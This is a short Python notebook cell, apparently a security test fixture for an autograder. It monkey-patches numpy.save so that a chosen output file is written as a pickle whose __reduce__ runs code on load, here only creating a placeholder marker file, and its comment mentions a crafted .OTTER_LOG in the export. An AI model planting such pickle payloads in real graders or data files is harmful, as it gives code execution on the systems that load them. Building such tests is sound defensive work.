# Graded from its code only: the export zip around this notebook carries a crafted .OTTER_LOG,
# and this code makes the sandbox save Linear's y as a pickle that would run code if loaded.
# %% reference
# %%
import numpy

_real_save = numpy.save


class Payload:
    def __reduce__(self):
        return (open, ("{{MARKER}}", "w"))


def pickling_save(file, arr, *args, **kwargs):
    if str(file).endswith("_y.npy") and "c000_" in str(file):
        return _real_save(file, numpy.array([Payload()], dtype=object), allow_pickle=True)
    return _real_save(file, arr, *args, **kwargs)


numpy.save = pickling_save
